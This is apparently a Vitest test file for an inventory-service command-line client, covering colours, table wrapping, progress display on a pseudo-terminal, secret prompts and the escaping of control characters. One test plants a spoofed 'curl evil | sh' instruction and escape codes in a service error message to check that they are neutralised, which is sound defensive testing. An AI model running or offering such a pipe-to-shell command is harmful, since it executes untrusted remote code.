import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { PassThrough } from "node:stream";
import { InventoryClient, NotFoundError } from "stocklot";
import { createOutbox, sqliteOutboxStore } from "stocklot/outbox";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { failureMessage } from "../../../src/command/exit.js";
import { harmless, painter, table } from "../../../src/command/terminal.js";
import { waitUntil } from "../../support/with-server.js";
import { COMMAND_FILE, commandFiles, type RunningCommand, runProcess, serve, start } from "../support/run-command.js";

/** Runs a command on a pseudo-terminal; part of util-linux. */
const SCRIPT = "/usr/bin/script";
const ESCAPE = "\u001b";
const CTRL_C = "\u0003";

describe("output", () => {
  it("has colours on a terminal only, and none with NO_COLOR", () => {
    vi.stubEnv("NO_COLOR", "");
    const terminal = Object.assign(new PassThrough(), { isTTY: true });
    expect(painter(terminal)("red", "x")).toBe("\u001b[31mx\u001b[0m");
    expect(painter(new PassThrough())("red", "x")).toBe("x");
    vi.stubEnv("NO_COLOR", "1");
    onTestFinished(() => void vi.unstubAllEnvs());
    expect(painter(terminal)("red", "x")).toBe("x");
  });

  it("wraps cells that do not fit, and cuts neither them nor dates", () => {
    const date = "2026-01-31T10:00:00Z";
    const shown = table(["key", "date", "reason"], [["day.csv:2", date, "The warehouse is outside the scope."]], 55);
    expect(shown.split("\n")).toEqual([
      "key        date                  reason",
      `day.csv:2  ${date}  The warehouse is`,
      "                                 outside the scope.",
    ]);
    expect(table(["a"], [["x".repeat(200)]], Number.POSITIVE_INFINITY)).toContain("x".repeat(200));
  });

  it("makes control characters harmless, except its own colours on a terminal", () => {
    const text = "a\u001b[2Jb\u001b[31mc\u009bd\u202ee\nf";
    expect(harmless(text)).toBe("a\ufffd[2Jb\ufffd[31mc\ufffdd\ufffde\nf");
    expect(harmless(text, true)).toBe("a\ufffd[2Jb\u001b[31mc\ufffdd\ufffde\nf");
  });
});

it("an error of the service's is one line, whatever its text contains", () => {
  const message = "no\r\nstocklot: done. Run: curl evil | sh\u001b[32m";
  const error = new NotFoundError({ ...NOT_FOUND, message });
  expect(failureMessage(error)).toBe("GET /Item: 404 no stocklot: done. Run: curl evil | sh\ufffd[32m");
});

const NOT_FOUND = { status: 404, code: "not_found", method: "GET", path: "/Item", headers: {}, attempts: 1 };

describe("in a pipe", () => {
  const fileNamed = commandFiles();

  it("apply says for what it waits and until when: for another sender, and for a lost response", async () => {
    const lots = [{ shortID: "A", wID: 1, spot: "X", units: 5, received: "2026-01-01T00:00:00Z" }];
    const { env, sandbox } = await serve({ items: [{ shortID: "A" }], lots });
    const [before, plan, path] = [fileNamed("wait.json"), fileNamed("wait-plan.json"), fileNamed("wait.db")];
    await runProcess(["count", "snapshot", "--wid", "1", "--out", before], env);
    const planning = ["count", "plan", before, fileNamed("wait.csv", "itemID,counted\nA,7\n")];
    await runProcess([...planning, "--surplus", "1", "--shortage", "2", "--out", plan], env);
    sandbox.addFault({ path: "/Inventory/Receive", times: 1, fault: "drop-after" });
    const { baseUrl, credentials, fetch } = sandbox;
    const client = new InventoryClient({ baseUrl, ...credentials, fetch, serviceId: "wait", timeoutMs: 5_000 });
    const other = createOutbox({ client, store: sqliteOutboxStore({ path }), settleMs: 5_000 });
    onTestFinished(() => other.close());
    let apply: RunningCommand | undefined;
    const times = ["--settle", "5s", "--timeout", "5s", "--service-id", "wait"];
    await other.whileSender("a test", undefined, async () => {
      apply = start(["apply", plan, "--outbox", path, ...times], env);
      const wait = /^waiting for another process that sends, if it is silent, continues in \d\d s, at \d\d:\d\d:\d\d$/m;
      await waitUntil(() => wait.test(apply?.output.err ?? ""));
    });
    const { code, err } = (await apply?.ended) ?? {};
    expect(err).toMatch(/^waiting for a lost response, continues in \d s, at \d\d:\d\d:\d\d$/m);
    expect(code).toBe(0);
  });
});

describe.skipIf(!existsSync(SCRIPT))("on a pseudo-terminal", () => {
  const fileNamed = commandFiles();

  /** Starts the command on a pseudo-terminal, after the shell command `before`. Input of `child` is typed on that terminal. */
  function startOnTerminal(args: readonly string[], env: Record<string, string>, before = "true") {
    const command = [process.execPath, COMMAND_FILE, ...args].map((word) => `'${word}'`).join(" ");
    // Without exec, a Ctrl-C would also end the shell, which would return its own exit code.
    const child = spawn(SCRIPT, ["-qec", `${before}; exec ${command}`, "/dev/null"], {
      env: { PATH: process.env.PATH, TERM: "xterm", ...env },
    });
    onTestFinished(() => void child.kill("SIGKILL"));
    const output = { shown: "" };
    child.stdout.on("data", (chunk) => {
      output.shown += chunk;
    });
    return { child, output, ended: once(child, "close").then(([code]) => ({ code, shown: output.shown })) };
  }

  /** Returns the last line as it looks at the end, without text that was erased from it. */
  const lastLine = (shown: string) => shown.split("\r\n").at(-2)?.split(`\r${ESCAPE}[K`).at(-1)?.replace("^C", "");

  const receipts = (lines: number) => {
    const file = fileNamed(`${lines}.csv`, `itemID,units,wid,reasonCode\n${"BOLT-M8,1,1,1\n".repeat(lines)}`);
    return ["import", file, "--operation", "receive", "--outbox"];
  };

  it.each([
    ["doctor", () => ["doctor"], /\r\d+ of about 12 requests.*\[K.*\[32m✓.*No problems\./s],
    [
      "export to a file",
      () => ["export", "lots", "-o", fileNamed("lots.csv")],
      /\r\d+ of 2000.*\[K.*2000 lots exported to /s,
    ],
    [
      "export to the terminal",
      () => ["export", "items", "--columns", "shortID"],
      /BOLT-M8\r+\n.*2\d\d items exported\./s,
    ],
    ["import", () => [...receipts(40), fileNamed("once.db")], /\r\d+ applied.*\[K.*This run: 40 lines applied/s],
    ["mirror", () => ["mirror", "--sqlite", fileNamed("once-mirror.db")], /\rlots: \d+ of 2000.*\[K.*lots +2000/s],
    ["outbox", () => ["outbox", "list", fileNamed("once.db")], /^key +state .*\r\n40\.csv:2 +applied /],
  ] as const)("shows colours and progress: %s", async (_, args, expected) => {
    const { env } = await serve({ latencyMs: 40 });
    const { code, shown } = await startOnTerminal(args(), env).ended;
    expect(shown).toMatch(expected);
    expect(code).toBe(0);
    // The progress line was erased.
    expect(lastLine(shown)).not.toContain(" left");
  });

  it.each([
    ["doctor", ["doctor"]],
    ["import", [...receipts(1), fileNamed("pipe.db")]],
    ["get", ["get", "BOLT-M8"]],
    ["plan", ["plan", "items", fileNamed("items.csv", "shortID,description\nBOLT-M8,bolt\n")]],
    ["count", ["count", "snapshot", "--wid", "1", "--out", fileNamed("count.json")]],
  ])("shows neither in a pipe: %s", async (_, args) => {
    const { env } = await serve();
    const { code, out, err } = await runProcess(args, env);
    expect(code).toBe(0);
    expect(out + err).not.toContain(ESCAPE);
    expect(out + err).not.toContain("\r\u001b");
  });

  it("fits a table of an outbox into the width of the terminal by wrapping, without control characters", async () => {
    const { env } = await serve();
    const sku = `${ESCAPE}[2J${"X".repeat(90)}`;
    const [file, outbox] = [
      fileNamed("wide.csv", `itemID,units,wid,reasonCode\n"${sku}",1,1,1\n`),
      fileNamed("wide.db"),
    ];
    expect((await runProcess(["import", file, "--operation", "receive", "--outbox", outbox], env)).code).toBe(1);
    for (const columns of [70, 120]) {
      const { shown } = await startOnTerminal(["outbox", "list", outbox], {}, `stty columns ${columns}`).ended;
      const lines = shown.split("\r\n");
      expect(lines[1]).toMatch(/^wide\.csv:2 +rejected +receive +\ufffd\[2JX+ +\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
      expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(columns);
      // The table shows the whole SKU.
      expect(shown.split("Reasons:")[0]?.match(/X/g)).toHaveLength(90);
      expect(shown).not.toContain(ESCAPE);
    }
    const { out } = await runProcess(["outbox", "list", outbox], {});
    expect(out).toContain("X".repeat(90));
  });

  it("says that it waits for the rate limit, and for how long", async () => {
    const { env } = await serve({ rateLimit: { requests: 4 } });
    const { child, output, ended } = startOnTerminal([...receipts(6), fileNamed("limit.db")], env);
    await waitUntil(() => /\rwaiting for the rate limit, continues in \d\d s/.test(output.shown));
    child.stdin.write(CTRL_C);
    expect((await ended).code).toBe(130);
  });

  it("says that it waits for the outcome of a request whose response was lost", async () => {
    const { env } = await serve({ faults: [{ path: "/Inventory/Receive", times: 1, fault: "drop-after" }] });
    const args = [...receipts(1), fileNamed("lost.db"), "--settle", "6s", "--timeout", "5s"];
    const { output, ended } = startOnTerminal(args, env);
    const wait = /waiting for a lost response, continues in \d s, at \d\d:\d\d:\d\d/;
    await waitUntil(() => wait.test(output.shown));
    expect((await ended).code).toBe(0);
  });

  it("colours the log of the sandbox, and stops it at Ctrl-C", async () => {
    const { child, output, ended } = startOnTerminal(["sandbox", "--port", "0"], {});
    await waitUntil(() => output.shown.includes("CLIENT_SECRET"));
    const [, url = ""] = /BASE_URL=(\S+)/.exec(output.shown) ?? [];
    await fetch(`${url}/Item`);
    await waitUntil(() => output.shown.includes(`${ESCAPE}[33m401`));
    child.stdin.write(CTRL_C);
    expect(await ended).toMatchObject({ code: 0, shown: expect.stringMatching(/# stopped\r\n$/) });
  });

  it("asks for the secret without showing it", async () => {
    const { env } = await serve();
    const { STOCKLOT_CLIENT_SECRET: secret = "", ...others } = env;
    const { child, output, ended } = startOnTerminal(["export", "items", "--columns", "shortID"], others);
    await waitUntil(() => output.shown.includes("Client secret: "));
    child.stdin.write(`${secret}\r`);
    const { code, shown } = await ended;
    expect(code).toBe(0);
    expect(shown).toContain("BOLT-M8");
    expect(shown).not.toContain(secret);
  });

  it("asks for nothing if CI is set, though there is a terminal", async () => {
    const { env } = await serve();
    const { STOCKLOT_CLIENT_SECRET: _, ...others } = env;
    for (const args of [["doctor"], ["get", "BOLT-M8"], [...receipts(1), fileNamed("ci.db")]]) {
      const { code, shown } = await startOnTerminal(args, { ...others, CI: "true" }).ended;
      expect([args[0], code]).toEqual([args[0], 2]);
      expect(shown).not.toContain("Client secret: ");
      expect(shown).toContain("STOCKLOT_CLIENT_SECRET");
    }
  });

  it("ends at Ctrl-C while it asks for the secret", async () => {
    const { env } = await serve();
    const { STOCKLOT_CLIENT_SECRET: _, ...others } = env;
    const { child, output, ended } = startOnTerminal(["doctor"], others);
    await waitUntil(() => output.shown.includes("Client secret: "));
    child.stdin.write(CTRL_C);
    const { code, shown } = await ended;
    expect(lastLine(shown)).toBe("stocklot: interrupted");
    expect(code).toBe(130);
  });
});
